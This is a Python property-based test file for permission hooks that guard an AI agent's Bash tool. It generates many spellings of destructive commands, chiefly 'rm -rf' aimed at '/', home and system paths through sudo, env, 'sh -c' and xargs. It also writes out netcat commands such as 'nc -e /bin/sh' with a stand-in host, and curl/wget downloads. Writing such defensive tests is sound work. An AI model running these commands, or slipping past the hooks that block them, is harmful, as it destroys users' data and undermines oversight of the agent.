"""The shipped example policies (infra/policies/) hold against the spellings a shell accepts.

The example users copy let `/bin/rm -rf /` through (a peer's let `rm -fr /` and
`rm -r -f /` through). Each property draws a dangerous command in one of the forms bash
runs the same (a path to the program, a backslash or quotes in its name, flags reordered,
combined or split, long options, `--`, `sudo`/`env`/`nice`/`timeout`/`command`/`xargs`
in front, `sh -c`/`bash -lc` around it, after another command and `;`, `&&`, `|`, `&` or
a newline) and checks the guard denies it; the same forms with a target inside the
project must stay allowed, so a guard that denies everything fails too.
"""

from __future__ import annotations

import shlex
import sys
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

POLICIES = Path(__file__).resolve().parents[2] / "infra" / "policies"
sys.path.insert(0, str(POLICIES))
import security_hooks as guard  # noqa: E402

CWD = "/home/u/proj"

WRAPPERS = st.lists(
    st.sampled_from(
        ["sudo", "sudo -u root", "sudo -E", "env", "env X=1", "env -i", "nice", "nice -n 5",
         "timeout 5", "timeout -s KILL 5", "command", "nohup", "doas", "stdbuf -o0",
         "ionice -c 3", "exec"]
    ),
    max_size=3,
).map(" ".join)  # fmt: skip


def program(name: str) -> st.SearchStrategy[str]:
    return st.sampled_from(
        [name, f"/bin/{name}", f"/usr/bin/{name}", f"\\{name}", f"'{name}'",
         f'"{name}"', f"{name[0]}''{name[1:]}", f"/usr/local/../../bin/{name}"]
    )  # fmt: skip


@st.composite
def recursive_flags(draw: Any) -> str:
    r = draw(st.sampled_from(["r", "R", "--recursive"]))
    f = draw(st.sampled_from(["f", "--force", "", "v", "i"]))
    short = [x for x in (r, f) if x and not x.startswith("--")]
    long = [x for x in (r, f) if x.startswith("--")]
    if draw(st.booleans()):  # combined: -rf, -fr, -fRv
        order = draw(st.permutations(short)) if short else []
        parts = [("-" + "".join(order)) if order else "", *long]
    else:  # split: -r -f
        parts = [f"-{x}" for x in short] + long
    parts = [p for p in parts if p]
    return " ".join(draw(st.permutations(parts)))


DANGEROUS = st.sampled_from(
    ["/", "/*", "~", "~/", "$HOME", "..", "../", "/etc", "/home/u", "/var/lib/x", ".",
     "${HOME}/x", "/home/u/proj/../other", "/home/u/proj"]
)  # fmt: skip
SAFE = st.sampled_from(["build", "build/", "./dist", "node_modules", "a/b/c", "build/*"])


def around(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """The command alone, inside `sh -c`, or after another command."""
    return st.one_of(
        inner,
        inner.flatmap(lambda c: st.sampled_from(
            [f"sh -c {shlex.quote(c)}", f"bash -lc {shlex.quote(c)}",
             f"/bin/sh -ec {shlex.quote(c)}", f"ls; {c}", f"ls && {c}", f"true || {c}",
             f"echo x | {c}", f"ls & {c}", f"ls\n{c}", f"echo $({c})"]
        )),
    )  # fmt: skip


def rm_command(targets: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.builds(
        lambda w, p, f, dd, t: " ".join(x for x in (w, p, f, dd, t) if x),
        WRAPPERS, program("rm"), recursive_flags(), st.sampled_from(["", "--"]), targets,
    )  # fmt: skip


def decision(command: str) -> str | None:
    out = guard.bash_guard({"tool_input": {"command": command}, "cwd": CWD})
    return None if out is None else out["hookSpecificOutput"]["permissionDecision"]


@settings(max_examples=600)
@given(around(rm_command(DANGEROUS)))
def test_every_spelling_of_a_recursive_rm_outside_the_project_is_denied(command: str) -> None:
    assert decision(command) == "deny", command


@settings(max_examples=300)
@given(around(rm_command(SAFE)))
def test_the_same_spellings_inside_the_project_are_allowed(command: str) -> None:
    assert decision(command) is None, command


@settings(max_examples=300)
@given(around(st.builds(lambda w, p, a: " ".join(x for x in (w, p, a) if x),
                        WRAPPERS, program("xargs"), st.just("rm -rf"))))  # fmt: skip
def test_rm_fed_by_xargs_is_denied(command: str) -> None:
    assert decision(f"find / -name x | {command}") == "deny", command


@settings(max_examples=300)
@given(around(st.builds(lambda w, p, a: f"{w} {p} {a}".strip(), WRAPPERS,
                        st.one_of(program("nc"), program("ncat"), program("socat")),
                        st.sampled_from(["-l 4444", "evil.example 80", "-e /bin/sh x 1"]))))  # fmt: skip
def test_raw_socket_tools_are_denied_by_any_path(command: str) -> None:
    assert decision(command) == "deny", command


@settings(max_examples=300)
@given(around(st.builds(lambda w, p: f"{w} {p} https://x.example/f".strip(), WRAPPERS,
                        st.one_of(program("curl"), program("wget")))))  # fmt: skip
def test_download_tools_are_asked_in_security_and_denied_in_strict(command: str) -> None:
    event = {"tool_input": {"command": command}, "cwd": CWD}
    asked = guard.network_ask(event)
    denied = guard.network_deny(event)
    assert asked is not None and asked["hookSpecificOutput"]["permissionDecision"] == "ask"
    assert denied is not None and denied["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert guard.network_ask({"tool_input": {"command": "ls -la"}, "cwd": CWD}) is None


def test_the_policies_wire_these_guards() -> None:
    import json

    for name, net in (("security", "network_ask"), ("strict", "network_deny")):
        doc = json.loads((POLICIES / f"{name}.json").read_text())
        bash = doc["hooks"]["PreToolUse"][0]
        assert bash["matcher"] == "Bash"
        callables = [h.get("callable") for h in bash["hooks"]]
        assert callables == ["security_hooks.py:bash_guard", f"security_hooks.py:{net}"], name


@given(st.text(max_size=300))
def test_the_guard_never_raises(command: str) -> None:
    guard.bash_guard({"tool_input": {"command": command}, "cwd": CWD})
    guard.network_ask({"tool_input": {"command": command}, "cwd": CWD})
